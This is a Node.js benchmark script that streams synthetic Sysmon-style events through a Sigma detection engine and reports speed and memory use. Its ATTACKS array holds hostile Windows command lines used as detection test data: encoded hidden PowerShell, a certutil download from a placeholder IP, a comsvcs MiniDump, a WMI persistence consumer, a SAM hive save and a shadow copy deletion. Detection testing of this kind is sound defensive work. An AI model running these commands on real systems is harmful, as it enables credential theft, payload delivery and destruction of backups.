#!/usr/bin/env node
// @ts-check
/**
 * Evaluator benchmark (whole process): all Windows rules of the SigmaHQ corpus against a
 * generated JSON Lines stream of Sysmon-like events, streamed from a file in a temporary
 * directory that is removed when the run ends (also on an error, Ctrl-C or SIGTERM).
 *
 *   node scripts/bench-eval.mjs [--events N] [--rules DIR] [--no-logsource-filter]
 *
 * N defaults to 1,000,000 (about 630 MB of JSON Lines); `npm run bench` passes 200,000.
 *
 * Event mix (seeded, deterministic): 60% process_creation (Sysmon 1), 15% network_connection
 * (Sysmon 3), 10% file_event (Sysmon 11), 10% registry_set (Sysmon 13), 5% other (image_load 7,
 * dns_query 22). About 1 event in 500 is attack-like (encoded PowerShell, certutil download,
 * comsvcs MiniDump, wmic event consumer, reg save of SAM, …).
 * Prints events per CPU-second (the machine may be shared: CPU time of this process, as well
 * as wall clock), rule tests per event, matches, and RSS and heap in use at several points of
 * the stream. Needs `npm run build`.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import readline from 'node:readline';

/** @param {string} name @param {string} def */
const arg = (name, def) => {
  const i = process.argv.indexOf(name);
  return i === -1 ? def : process.argv[i + 1];
};
const N = Number(arg('--events', '1000000'));
if (!Number.isInteger(N) || N < 1) {
  console.error('bench-eval: --events takes a whole number ≥ 1');
  process.exit(2);
}
const RULES = arg('--rules', path.resolve(import.meta.dirname, '../../shared/corpus/sigmahq/rules/windows'));
const logsourceFilter = !process.argv.includes('--no-logsource-filter');
const SEED = 20240501;

// The parser and evaluator modules directly (not dist/index.js: the benchmark needs nothing else).
// (Typed by their declarations in dist/.)
const { parse } = await import('../dist/parser/index.js');
const { createEngine } = await import('../dist/eval/index.js');

// ---------------------------------------------------------------------------
// Deterministic generator

/** @param {number} a */
function mulberry32(a) {
  return () => {
    a |= 0;
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = mulberry32(SEED);
/** @template T @param {readonly T[]} a @returns {T} */
const pick = (a) => a[Math.floor(rnd() * a.length)];
/** @param {number} n */
const hex = (n) => Array.from({ length: n }, () => '0123456789ABCDEF'[Math.floor(rnd() * 16)]).join('');
const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;

const USERS = [
  'CORP\\alice',
  'CORP\\bob',
  'CORP\\svc_backup',
  'NT AUTHORITY\\SYSTEM',
  'CORP\\carol',
  'NT AUTHORITY\\NETWORK SERVICE',
];
const HOSTS = Array.from({ length: 50 }, (_, i) => `WS-${String(i).padStart(4, '0')}.corp.local`);
const NORMAL = [
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1234 --lang=en-US',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Windows\\System32\\userinit.exe'],
  [
    'C:\\Windows\\System32\\conhost.exe',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\cmd.exe',
    'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\Git\\cmd\\git.exe" status',
    'C:\\Program Files\\Microsoft VS Code\\Code.exe',
  ],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe fetch --all --prune', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Program Files\\nodejs\\node.exe',
    'node.exe C:\\Users\\alice\\src\\app\\node_modules\\vite\\bin\\vite.js build',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoProfile -Command Get-ChildItem C:\\Users\\alice\\Documents',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
  ],
  [
    'C:\\Windows\\System32\\taskhostw.exe',
    'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process',
    'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
  ],
  [
    'C:\\Windows\\System32\\SearchProtocolHost.exe',
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1',
    'C:\\Windows\\System32\\SearchIndexer.exe',
  ],
  ['C:\\Python311\\python.exe', 'python.exe -m pytest tests\\unit -q', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    'C:\\Windows\\System32\\svchost.exe',
  ],
];
const ATTACKS = [
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\certutil.exe',
    'certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\wbem\\WMIC.exe',
    'wmic /namespace:\\\\root\\subscription PATH __EventConsumer create Name="x"',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\reg.exe',
    'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'C:\\Windows\\System32\\cmd.exe'],
];
const FILES = [
  'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{n}.tmp',
  'C:\\Users\\bob\\Downloads\\report{n}.pdf',
  'C:\\Windows\\Prefetch\\CHROME.EXE-{n}.pf',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\{n}.bin',
];
const KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\{n}',
  'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\{n}',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{n}',
];
const DOMAINS = [
  'www.google.com',
  'login.microsoftonline.com',
  'github.com',
  'registry.npmjs.org',
  'teams.microsoft.com',
];

/** @param {number} i */
function event(i) {
  const t = new Date(Date.UTC(2024, 4, 1) + i * 10).toISOString();
  const base = {
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: pick(HOSTS),
    TimeCreated: t,
    ProcessGuid: guid(),
    ProcessId: Math.floor(rnd() * 30000),
    User: pick(USERS),
  };
  const r = rnd();
  const attack = rnd() < 0.002;
  const [image, cmd, parent] = attack ? pick(ATTACKS) : pick(NORMAL);
  if (r < 0.6) {
    return {
      ...base,
      EventID: 1,
      Image: image,
      CommandLine: cmd,
      ParentImage: parent,
      ParentCommandLine: parent,
      OriginalFileName: path.win32.basename(image).toUpperCase(),
      CurrentDirectory: 'C:\\Windows\\system32\\',
      IntegrityLevel: pick(['Medium', 'High', 'System']),
      Hashes: `SHA256=${hex(64)}`,
      Company: 'Microsoft Corporation',
      Product: 'Microsoft® Windows® Operating System',
      Description: 'Windows host process',
    };
  }
  if (r < 0.75)
    return {
      ...base,
      EventID: 3,
      Image: image,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: `10.1.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`,
      SourcePort: 49152 + Math.floor(rnd() * 10000),
      DestinationIp: attack ? '203.0.113.7' : `142.250.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`,
      DestinationPort: pick([443, 443, 80, 53]),
      DestinationHostname: pick(DOMAINS),
    };
  if (r < 0.85)
    return {
      ...base,
      EventID: 11,
      Image: image,
      TargetFilename: attack ? 'C:\\Users\\Public\\sam.save' : pick(FILES).replace('{n}', hex(6)),
      CreationUtcTime: t,
    };
  if (r < 0.95)
    return {
      ...base,
      EventID: 13,
      EventType: 'SetValue',
      Image: image,
      TargetObject: pick(KEYS).replace('{n}', hex(6)),
      Details: pick(['DWORD (0x00000001)', 'Binary Data', `C:\\Program Files\\${hex(4)}\\x.exe`]),
    };
  if (rnd() < 0.5)
    return {
      ...base,
      EventID: 7,
      Image: image,
      ImageLoaded: pick([
        'C:\\Windows\\System32\\ntdll.dll',
        'C:\\Windows\\System32\\kernel32.dll',
        'C:\\Windows\\System32\\amsi.dll',
      ]),
      Signed: 'true',
      Signature: 'Microsoft Windows',
    };
  return {
    ...base,
    EventID: 22,
    Image: image,
    QueryName: pick(DOMAINS),
    QueryStatus: '0',
    QueryResults: '::ffff:142.250.1.1;',
  };
}

// The events file lives in a directory of its own, removed in the `finally` below. (It used to
// be kept in /tmp as a cache, which left ~630 MB behind after every `npm run bench`.)
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sigil-bench-eval-'));
const cleanUp = () => fs.rmSync(dir, { recursive: true, force: true });
for (const signal of /** @type {const} */ (['SIGINT', 'SIGTERM'])) {
  process.once(signal, () => {
    cleanUp();
    process.exit(128 + os.constants.signals[signal]);
  });
}
try {
  await run(path.join(dir, `events-${SEED}-${N}.jsonl`));
} finally {
  cleanUp();
}

/** Writes the events to `file`, then parses the rules and streams the events through the engine. @param {string} file */
async function run(file) {
  const fd = fs.openSync(file, 'w');
  let buf = '';
  for (let i = 0; i < N; i++) {
    buf += JSON.stringify(event(i)) + '\n';
    if (buf.length > 1 << 20) {
      fs.writeSync(fd, buf);
      buf = '';
    }
  }
  fs.writeSync(fd, buf);
  fs.closeSync(fd);
  const bytes = fs.statSync(file).size;

  // ---------------------------------------------------------------------------
  // Rules

  /** @param {string} dir @param {string[]} out @returns {string[]} */
  const walk = (dir, out = []) => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) walk(p, out);
      else if (/\.ya?ml$/.test(e.name)) out.push(p);
    }
    return out;
  };
  const t0 = performance.now();
  /** @type {import('../src/ast/types.js').SigmaRule[]} */
  const rules = [];
  for (const f of walk(RULES)) {
    for (const d of parse(fs.readFileSync(f), { file: f, schema: false }).documents) {
      if (d.document?.kind === 'rule' && !d.diagnostics.some((x) => x.severity === 'error')) rules.push(d.document);
    }
  }
  const t1 = performance.now();
  const engine = createEngine(rules, { logsourceFilter });
  const t2 = performance.now();

  // ---------------------------------------------------------------------------
  // Stream

  /** @param {number} n */
  const mb = (n) => `${(n / 1048576).toFixed(0)} MB`;
  /** @type {string[]} */
  const samples = [];
  let count = 0;
  let matches = 0;
  let tested = 0;
  /** @type {Map<string, number>} */
  const perRule = new Map();
  const start = performance.now();
  const cpu0 = process.cpuUsage();
  const rl = readline.createInterface({
    input: fs.createReadStream(file, { encoding: 'utf8', highWaterMark: 1 << 20 }),
    crlfDelay: Infinity,
  });
  const every = Math.max(1, Math.floor(N / 8));
  for await (const line of rl) {
    if (!line) continue;
    const hits = engine.evaluate(JSON.parse(line));
    tested += engine.lastTested;
    count++;
    if (hits.length) {
      matches += hits.length;
      for (const h of hits) {
        const title = h.rule.title ?? '(untitled)';
        perRule.set(title, (perRule.get(title) ?? 0) + 1);
      }
    }
    if (count % every === 0) {
      const m = process.memoryUsage();
      samples.push(`${count}: ${mb(m.rss)} (heap ${mb(m.heapUsed)})`);
    }
  }
  const secs = (performance.now() - start) / 1000;
  const cpu = process.cpuUsage(cpu0);
  const cpuSecs = (cpu.user + cpu.system) / 1e6;

  console.log(`sigil evaluator benchmark (node ${process.version}, ${process.arch})`);
  console.log(
    `events:     ${count} Sysmon-like JSON Lines (${mb(bytes)}, in ${file}, removed after the run); mix 60% process_creation, 15% network, 10% file, 10% registry, 5% image_load/dns, ~0.2% attack-like`,
  );
  console.log(
    `rules:      ${rules.length} from ${RULES} (${engine.diagnostics.length} not evaluable); parse ${((t1 - t0) / 1000).toFixed(2)}s, compile+index ${((t2 - t1) / 1000).toFixed(2)}s`,
  );
  console.log(
    `logsource filter: ${logsourceFilter ? 'on' : 'off'}; rule tests per event: ${(tested / Math.max(count, 1)).toFixed(1)} of ${rules.length}`,
  );
  console.log(
    `throughput: ${Math.round(count / cpuSecs)} events per CPU-second (${cpuSecs.toFixed(2)}s CPU; JSON.parse + evaluation on one thread); wall clock ${Math.round(count / secs)} events/s (${secs.toFixed(2)}s, shared machine)`,
  );
  console.log(
    `matches:    ${matches} (${perRule.size} distinct rules); top: ${[...perRule]
      .sort((a, b) => b[1] - a[1])
      .slice(0, 5)
      .map(([t, n]) => `${t} ×${n}`)
      .join('; ')}`,
  );
  // RSS saws up and down with V8's lazy major GC; heapUsed shows what is live (flat = bounded).
  console.log(`rss:        ${samples.join(', ')}; peak ${mb(process.resourceUsage().maxRSS * 1024)}`);
}
